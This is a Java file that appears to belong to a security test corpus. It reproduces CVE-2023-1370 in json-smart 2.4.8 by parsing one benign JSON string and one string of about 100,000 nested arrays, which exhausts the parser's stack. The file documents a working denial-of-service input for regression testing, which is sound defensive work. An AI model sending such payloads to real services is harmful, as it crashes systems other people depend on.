package corpus.jsonsmart;

import corpus.CorpusDriver;
import net.minidev.json.JSONValue;
import net.minidev.json.parser.JSONParser;

/**
 * json-smart 2.4.8, CVE-2023-1370: arrays nested without limit make {@code JSONParserBase}'s
 * {@code readMain}/{@code readArray} recurse until the stack runs out (fixed in 2.4.9 by a depth limit).
 */
public final class Hostile {

    public static void main(String[] args) throws Exception {
        int depth = CorpusDriver.depth(args, 100_000);
        String hostile = CorpusDriver.nested("[", "1", "]", depth);
        CorpusDriver.run("jsonsmart", JSONValue.class,
                () -> new JSONParser(JSONParser.MODE_PERMISSIVE).parse("{\"name\":\"benign\",\"items\":[1,[2,[3]]],\"map\":{\"a\":\"b\"}}"),
                () -> new JSONParser(JSONParser.MODE_PERMISSIVE).parse(hostile));
    }
}
